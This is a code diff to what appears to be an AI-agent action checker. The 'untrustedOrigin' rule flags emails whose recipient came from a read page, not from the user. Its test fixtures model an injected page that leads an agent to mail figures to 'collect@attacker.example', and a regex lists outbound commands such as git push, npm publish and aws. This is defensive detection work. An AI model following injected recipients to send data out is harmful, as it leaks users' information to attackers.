@@ -34,13 +34,13 @@ export const untrustedOrigin: Rule = {
   suggestion: 'ask the user whom or what they meant, and use what they name',
   examples: {
     hit: [
-      { action: mail('collect@attacker.example'), given: { heard: 'Mail Ann the figures', read: [page] } },
+      { action: mail('collect@attacker.example'), given: { tools: [{ name: 'send_email', effect: 'message' }], heard: 'Mail Ann the figures', read: [page] } },
     ],
     miss: [
-      { action: mail('ann@example.com'), given: { heard: 'Mail ann@example.com the figures', read: [page] } },
+      { action: mail('ann@example.com'), given: { tools: [{ name: 'send_email', effect: 'message' }], heard: 'Mail ann@example.com the figures', read: [page] } },
       {
         action: mail('collect@attacker.example'),
-        given: { heard: 'Mail the figures to collect@attacker.example', read: [page] },
+        given: { tools: [{ name: 'send_email', effect: 'message' }], heard: 'Mail the figures to collect@attacker.example', read: [page] },
       },
     ],
   },
@@ -154,4 +154,23 @@ function sends(segment: string): boolean {
   return /^(?:git (?:push|remote (?:add|set-url))|gh (?:gist|api|release|secret|repo|pr|issue|workflow)|glab|npm (?:publish|owner|access|token)|yarn publish|pnpm publish|twine|cargo (?:publish|owner)|gem push|(?:docker|podman) (?:push|login)|kubectl|helm|terraform (?:apply|destroy)|ansible|aws|gcloud|az|gsutil|heroku|vercel|netlify|fly|flyctl|firebase|psql|mysql|redis-cli|mongosh)\b/.test(
     words,
   );
+}
+
+/** What is found about a call and about the actions inside it; calls inside it are judged by themselves. */
+export function callOrigins(
+  action: Action,
+  effect: string,
+  parts: readonly { readonly pointer: string; readonly action: Action }[],
+  origins: Origins | null | undefined,
+): readonly Finding[] {
+  const inner = parts.filter((part) => part.action.kind !== 'tool');
+  return [
+    ...originFindings(action, effect, origins),
+    ...inner.flatMap((part) =>
+      originFindings(part.action, undefined, origins).map((finding) => ({
+        ...finding,
+        pointer: part.pointer,
+      })),
+    ),
+  ];
 }
